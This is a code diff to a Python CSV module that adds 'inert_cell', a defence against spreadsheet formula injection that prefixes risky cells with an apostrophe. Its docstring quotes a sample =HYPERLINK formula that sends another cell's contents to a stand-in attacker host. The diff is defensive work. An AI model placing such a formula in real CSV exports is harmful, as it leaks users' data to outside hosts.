@@ -1,6 +1,8 @@
 """Reading the CSV files staff upload (districts, projects): the rows by their line, or what is wrong with
 the file as a whole. Spreadsheets write commas, semicolons or tabs and may start with a byte-order mark;
-every one of those reads. Pure: no Flask, no database; messages are codes the views put in words."""
+every one of those reads. Pure: no Flask, no database; messages are codes the views put in words.
+
+Also the other way: ``inert_cell`` makes a text cell of a CSV file pb writes safe to open in a spreadsheet."""
 
 from __future__ import annotations
 
@@ -9,6 +11,19 @@ import io
 from dataclasses import dataclass
 
 MAX_ROWS = 5000
+# What makes a spreadsheet read a cell as a formula (or, with tab and carriage return, hide one).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert_cell(value: object) -> object:
+    """A CSV cell that a spreadsheet shows as text: a string starting like a formula gets a leading apostrophe.
+
+    Residents write project titles; ``=HYPERLINK("http://evil.example/?"&B2,"map")`` must stay words (OWASP
+    "CSV injection"). Numbers are written as they are, so negative amounts stay numbers.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 class CsvProblem(ValueError):
